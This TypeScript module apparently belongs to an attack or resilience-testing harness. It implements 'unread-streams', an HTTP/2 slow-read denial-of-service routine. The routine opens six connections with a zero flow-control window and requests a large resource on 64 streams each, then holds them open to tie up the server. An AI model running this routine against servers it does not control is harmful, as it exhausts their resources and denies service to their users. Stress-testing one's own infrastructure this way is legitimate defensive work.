// Downloads that nobody reads: a window of 0, as many streams as are allowed, from every kind of upstream.

import { type Attack, inLoops, pause } from './attack.ts';
import { attackConnection, requestFrame } from './frames.ts';

const CONNECTIONS = 6;
const STREAMS = 64;
const INITIAL_WINDOW_SIZE = 4;
const HELD_MS = 5_000;

export const unreadStreams: Attack = {
  name: 'unread-streams',
  does: `${CONNECTIONS} times ${STREAMS} downloads whose windows stay closed`,
  async start(target) {
    const hosts = Object.values(target.hosts);
    let begun = 0;
    return inLoops(target, CONNECTIONS, async (stopped) => {
      const host = hosts[begun++ % hosts.length]!;
      const connection = await attackConnection(target, host, [[INITIAL_WINDOW_SIZE, 0]]);
      for (let i = 0; i < STREAMS; i++) await connection.send(requestFrame(2 * i + 1, host, '/large'));
      await pause(HELD_MS, stopped);
      connection.close();
    });
  },
};
